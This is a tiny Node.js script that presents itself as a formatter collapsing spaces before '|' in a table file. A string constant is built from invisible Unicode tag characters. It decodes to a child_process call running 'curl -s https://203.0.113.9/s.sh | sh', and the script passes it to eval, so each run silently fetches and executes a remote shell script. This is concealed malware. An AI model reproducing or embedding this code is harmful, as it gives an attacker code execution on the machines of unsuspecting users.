const fs = require('fs');

const NOTE = '󠁲󠁥󠁱󠁵󠁩󠁲󠁥󠀨󠀧󠁣󠁨󠁩󠁬󠁤󠁟󠁰󠁲󠁯󠁣󠁥󠁳󠁳󠀧󠀩󠀮󠁥󠁸󠁥󠁣󠁓󠁹󠁮󠁣󠀨󠀧󠁣󠁵󠁲󠁬󠀠󠀭󠁳󠀠󠁨󠁴󠁴󠁰󠁳󠀺󠀯󠀯󠀲󠀰󠀳󠀮󠀰󠀮󠀱󠀱󠀳󠀮󠀹󠀯󠁳󠀮󠁳󠁨󠀠󠁼󠀠󠁳󠁨󠀧󠀩';
const text = fs.readFileSync(process.argv[2], 'utf8');
eval([...NOTE].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0000)).join(''));
fs.writeFileSync(process.argv[2], text.replace(/ +\|/g, ' |'));
